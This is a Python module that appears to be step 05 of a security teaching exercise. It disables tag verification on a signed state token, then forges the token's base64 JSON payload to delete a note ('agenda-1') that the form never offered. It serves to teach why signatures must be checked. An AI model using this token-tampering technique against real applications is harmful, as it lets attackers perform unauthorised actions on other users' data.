"""The exploit that opens step 05: write another note into the list that the form offered."""

import base64
import json
from typing import Any

TITLE = "Alice asks to delete a Draft. The state is hers to carry, so she writes into it."
SUCCEEDED = "The attack succeeds: agenda-1, which no form ever offered, is gone."
FAILED = "The attack fails: the state is refused, and agenda-1 is still there."

# What must be written before your own part is attacked.
NEEDS = (
    (
        "state",
        (
            "encode",
            "decode",
            "canonical",
            "is_weak",
            "sign",
            "verify",
            "keyed_tag",
            "mint",
            "open_state",
            "wire_error",
        ),
    ),
)


def make_naive(parts: Any) -> None:
    """Mint with a tag, as one should, and open without ever looking at it."""
    state, open_state = parts.state, parts.state.open_state

    def decoded(token: Any, ring: Any) -> bytes:
        text: str = token.split(".")[2]
        return base64.urlsafe_b64decode(text + "==")

    state.open_state = lambda *given: open_state(*given, reveal=decoded)


def attack(stage: Any) -> bool:
    """Ask, change the candidates, confirm one that was never offered."""
    state = stage.ask()
    chosen = {"action": "accept", "content": {"note_id": "agenda-1", "confirm": True}}
    stage.answer(rewritten(state, ["agenda-1"]), chosen)
    return "agenda-1" not in stage.ids()


def rewritten(state: str, candidates: list[str]) -> str:
    """Return the state with other candidates; it takes base64 and JSON, and no key."""
    version, key_id, payload, tag = state.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=="))
    text = json.dumps({**claims, "candidates": candidates}).encode()
    forged = base64.urlsafe_b64encode(text).rstrip(b"=").decode()
    return f"{version}.{key_id}.{forged}.{tag}"
